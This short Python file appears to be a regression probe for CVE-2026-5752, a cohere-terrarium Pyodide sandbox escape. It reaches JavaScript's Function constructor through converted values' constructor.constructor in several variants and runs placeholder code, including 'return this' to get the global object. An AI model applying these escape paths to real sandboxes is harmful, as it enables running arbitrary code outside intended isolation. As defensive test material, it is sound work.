# From: cohere-terrarium CVE-2026-5752: any converted value knows its constructor, and that one `Function`.
# Ends: []
from gains import gains


def attack(probe):
    from pyodide.ffi import to_js

    import pyodide_js

    values = [to_js([1]), to_js({}), to_js({"a": 1}), to_js({1}), to_js(b"x"), to_js(print), to_js(object()), to_js([]).push, to_js(b"x").buffer, pyodide_js._api.scheduleCallback]
    return gains([
        *(lambda value=value: value.constructor.constructor("return 42")() for value in values),
        *(lambda value=value: value.constructor.constructor.new("return 42")() for value in values),
        *(lambda value=value: value.constructor.constructor.apply(None, to_js(["return 42"]))() for value in values),
        *(lambda value=value: value.constructor.constructor.prototype.constructor("return this")() for value in values),
    ])
